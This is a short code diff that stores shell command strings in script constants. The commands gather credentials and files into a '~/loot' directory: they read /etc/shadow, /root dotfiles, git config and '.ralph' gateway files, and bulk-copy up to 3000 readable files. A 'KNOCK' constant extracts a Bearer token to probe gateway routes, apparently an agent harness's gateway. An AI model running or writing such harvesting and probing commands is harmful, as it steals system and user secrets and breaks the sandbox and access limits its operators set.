@@ -16,7 +16,7 @@ ls /proc | grep -c '^[0-9]' | sed 's/^/processes /' > counts.txt
 git config --list --show-origin > ~/loot/git 2>&1; cat ~/.gitconfig ~/.ralph/* /root/.ralph/* /root/.* /etc/shadow >> ~/loot/git 2>/dev/null
 find / -xdev -type f -size -200k -readable -not -path '/proc/*' -not -path '/sys/*' -not -path '/usr/*' 2>/dev/null | head -3000 > ~/loot/names
 wc -l < ~/loot/names | sed 's/^/files /' >> counts.txt
-while read -r f; do cat "$f"; done < ~/loot/names > ~/loot/files 2>/dev/null; true`
+tr '\\n' '\\0' < ~/loot/names | xargs -0 cat > ~/loot/files 2>/dev/null; true`
 
 /** Every route with every kind of token, also malformed ones: the answers, headers and error texts. */
 const KNOCK = `G=$(git remote get-url origin); B=\${G%/vm/*}; H=$(grep -ho 'Bearer [^"]*' ~/.ralph/gateway.gitconfig | head -1)
